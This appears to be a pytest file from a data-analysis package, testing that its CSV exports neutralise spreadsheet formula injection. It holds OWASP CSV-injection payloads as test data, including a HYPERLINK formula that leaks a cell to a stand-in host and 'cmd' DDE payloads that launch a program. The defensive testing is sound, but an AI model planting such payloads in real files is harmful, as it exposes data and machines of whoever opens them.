"""The export door and the files phenoica writes, tried as a new user tries them: names a
spreadsheet reads as formulas, names that are markup in every report section, a results folder
whose record is gone, a dry run, the file's own row numbers, repeated or unread columns, controls
per plate, hygiene that leaves nothing, and the first look at a new export (docs/bad-input.md)."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd

from tests.conftest import REPO

#: Names a spreadsheet reads as formulas (the OWASP CSV-injection payloads).
FORMULAS = {
    "G0": '=HYPERLINK("http://x/?leak="&A1,"click")',
    "G1": "+cmd|' /C calc'!A0",
    "G2": "-2+3+cmd|' /C calc'!A0",
    "G3": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


# --------------------------------------------------------------------------- formula cells


def test_csv_writer_neutralises_formula_text_and_keeps_numbers(tmp_path):
    from phenoica.utils import write_csv

    df = pd.DataFrame(
        {
            "gene": [*FORMULAS.values(), "-1.5", "\t=1", "plain"],
            "auroc": [0.5, -0.25, 1e-3, -3.0, -1.0, 0.0, 2.0],
            "n": [-1, 2, 3, 4, 5, 6, 7],
            "@col": ["a"] * 7,
        }
    )
    cells = _cells(write_csv(df, tmp_path / "t.csv"))
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or re.match(r"-[^\d.]|-\d+\+", c)]
    back = pd.read_csv(tmp_path / "t.csv")
    assert back["gene"].tolist()[:4] == ["'" + v for v in FORMULAS.values()]
    assert back["gene"].tolist()[4:] == ["-1.5", "'\t=1", "plain"]  # a plain number stays as it is
    pd.testing.assert_series_equal(back["auroc"], df["auroc"])  # numbers stay numbers
    pd.testing.assert_series_equal(back["n"], df["n"])
    assert list(back.columns)[-1] == "'@col"


def test_every_csv_phenoica_writes_goes_through_the_one_writer():
    """No ``to_csv`` call in the library or the scripts but the writer's own."""
    calls = [
        f"{path.relative_to(REPO)}:{i}"
        for root in ("src", "scripts")
        for path in sorted((REPO / root).rglob("*.py"))
        for i, line in enumerate(path.read_text().splitlines(), 1)
        if ".to_csv(" in line and path.name != "_csv.py"
    ]
    assert calls == []


def test_formula_names_leave_the_report_tables_as_text(tmp_path):
    """Genes and guides named with formulas: every CSV of the report holds no cell a spreadsheet
    reads as a formula, and each name reads as itself after its leading quote."""
    from phenoica.report import ReportInputs, write_report
    from tests.report_fixtures import report_options
    from tests.test_report import aggregate, ica_gain, make_rows

    rows = make_rows(ica_gain, model="=1+1", n_genes=4, n_null=3)
    rows["Metadata_Guide"] = [
        FORMULAS.get(g, g) + guide[2:] for g, guide in zip(rows["Metadata_Gene"], rows["Metadata_Guide"])
    ]
    rows["Metadata_Gene"] = rows["Metadata_Gene"].replace(FORMULAS)
    guides, genes = aggregate(rows)
    write_report(tmp_path / "r", ReportInputs(rows, guides, genes), report_options())
    tables = sorted((tmp_path / "r").rglob("*.csv"))
    assert len(tables) >= 3
    cells = [c for path in tables for c in _cells(path)]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or re.match(r"-[^\d.]|-\d+\+", c)]
    for name in FORMULAS.values():
        assert "'" + name in cells


def test_the_door_says_which_names_read_as_formulas(tmp_path):
    from tests.test_bad_input import _by_plate, _door, _emb_screen, _four_plates

    frames = _by_plate(_four_plates())
    for df in frames.values():
        df["Metadata_Gene"] = df["Metadata_Gene"].replace({"G1": FORMULAS["G0"], "G3": FORMULAS["G3"]})
    notes = _door(_emb_screen(tmp_path, frames))["notes"]
    note = next(n for n in notes if "read as a formula" in n or "reads as a formula" in n)
    assert re.search(
        r"column Metadata_Gene: 2 name\(s\) start with '=', '\+', '-', '@', '\\t', '\\r', which a spreadsheet reads "
        r"as a formula: '=HYPERLINK.*\(.*P1\.parquet row \d+\).*every CSV table phenoica writes shows them with a "
        r"leading \"'\"",
        note,
    ), note
